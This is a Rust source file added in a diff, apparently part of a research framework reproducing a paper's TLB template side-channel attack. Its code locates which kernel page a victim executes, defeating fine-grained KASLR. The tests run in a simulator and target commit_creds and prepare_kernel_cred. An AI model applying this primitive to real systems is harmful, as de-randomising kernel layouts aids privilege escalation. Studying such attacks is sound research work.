@@ -1,0 +1,162 @@
+//! TLB template attack: locate *which page* the victim touches.
+//!
+//! The generalization of P4 used twice in the paper: against FGKASLR
+//! ("leveraging TLB state template attacks", §V-A) and to break the
+//! 4 KiB-randomized Windows entry point (§IV-G). Per candidate page:
+//! evict its translation, let the victim run once, probe — only the
+//! page the victim actually executed turns hot.
+
+use avx_mmu::VirtAddr;
+
+use crate::calibrate::Threshold;
+use crate::prober::Prober;
+
+use super::tlb::{TlbAttack, TlbState};
+
+/// The template attack.
+#[derive(Clone, Copy, Debug)]
+pub struct TlbTemplateAttack {
+    tlb: TlbAttack,
+}
+
+impl TlbTemplateAttack {
+    /// Builds a template attack whose hit boundary hugs the calibrated
+    /// hit level: non-target candidates still pay at least a warm walk
+    /// (a handful of cycles above a hit) because the victim's own
+    /// activity rewarms the paging-structure caches.
+    #[must_use]
+    pub fn new(threshold: &Threshold) -> Self {
+        Self {
+            tlb: TlbAttack::with_boundary(threshold.value + 4.0),
+        }
+    }
+
+    /// Builds with an explicit boundary.
+    #[must_use]
+    pub fn with_boundary(hit_boundary: f64) -> Self {
+        Self {
+            tlb: TlbAttack::with_boundary(hit_boundary),
+        }
+    }
+
+    /// Scans `pages` 4 KiB candidates from `base`, running `trigger`
+    /// (the victim action) between eviction and probe of each; returns
+    /// the first hot page.
+    pub fn locate<P, F>(
+        &self,
+        p: &mut P,
+        base: VirtAddr,
+        pages: u64,
+        mut trigger: F,
+    ) -> Option<VirtAddr>
+    where
+        P: Prober + ?Sized,
+        F: FnMut(&mut P),
+    {
+        for i in 0..pages {
+            let candidate = base.wrapping_add(i * 4096);
+            self.tlb.arm(p, candidate);
+            trigger(p);
+            let (state, _) = self.tlb.observe(p, candidate);
+            if state == TlbState::Hit {
+                return Some(candidate);
+            }
+        }
+        None
+    }
+
+    /// Like [`TlbTemplateAttack::locate`] but collects *every* hot page
+    /// (victim actions that touch several pages per run).
+    pub fn locate_all<P, F>(
+        &self,
+        p: &mut P,
+        base: VirtAddr,
+        pages: u64,
+        mut trigger: F,
+    ) -> Vec<VirtAddr>
+    where
+        P: Prober + ?Sized,
+        F: FnMut(&mut P),
+    {
+        let mut hot = Vec::new();
+        for i in 0..pages {
+            let candidate = base.wrapping_add(i * 4096);
+            self.tlb.arm(p, candidate);
+            trigger(p);
+            let (state, _) = self.tlb.observe(p, candidate);
+            if state == TlbState::Hit {
+                hot.push(candidate);
+            }
+        }
+        hot
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::prober::SimProber;
+    use avx_os::linux::{LinuxConfig, LinuxSystem};
+    use avx_uarch::{CpuProfile, NoiseModel};
+
+    #[test]
+    fn locates_the_touched_page_among_candidates() {
+        let sys = LinuxSystem::build(LinuxConfig {
+            fgkaslr: true,
+            fixed_slide: Some(50),
+            ..LinuxConfig::seeded(1)
+        });
+        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 1);
+        m.set_noise(NoiseModel::none());
+        let mut p = SimProber::new(m);
+        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
+        let template = TlbTemplateAttack::new(&th);
+
+        let target = truth.function_addr("commit_creds").unwrap().align_down(4096);
+        let found = template.locate(&mut p, truth.kernel_base, 8 * 512, |p| {
+            p.machine_mut().touch_as_kernel(target);
+        });
+        assert_eq!(found, Some(target));
+    }
+
+    #[test]
+    fn no_victim_activity_no_hot_pages() {
+        let sys = LinuxSystem::build(LinuxConfig {
+            fixed_slide: Some(60),
+            ..LinuxConfig::seeded(2)
+        });
+        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 2);
+        m.set_noise(NoiseModel::none());
+        let mut p = SimProber::new(m);
+        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
+        let template = TlbTemplateAttack::new(&th);
+        let found = template.locate(&mut p, truth.kernel_base, 256, |_| {});
+        assert_eq!(found, None);
+    }
+
+    #[test]
+    fn locate_all_finds_multi_page_victims() {
+        let sys = LinuxSystem::build(LinuxConfig {
+            fgkaslr: true,
+            fixed_slide: Some(70),
+            ..LinuxConfig::seeded(3)
+        });
+        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 3);
+        m.set_noise(NoiseModel::none());
+        let mut p = SimProber::new(m);
+        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
+        let template = TlbTemplateAttack::new(&th);
+
+        let a = truth.function_addr("commit_creds").unwrap().align_down(4096);
+        let b = truth
+            .function_addr("prepare_kernel_cred")
+            .unwrap()
+            .align_down(4096);
+        let hot = template.locate_all(&mut p, truth.kernel_base, 8 * 512, |p| {
+            p.machine_mut().touch_as_kernel(a);
+            p.machine_mut().touch_as_kernel(b);
+        });
+        assert!(hot.contains(&a), "{hot:?}");
+        assert!(hot.contains(&b), "{hot:?}");
+    }
+}
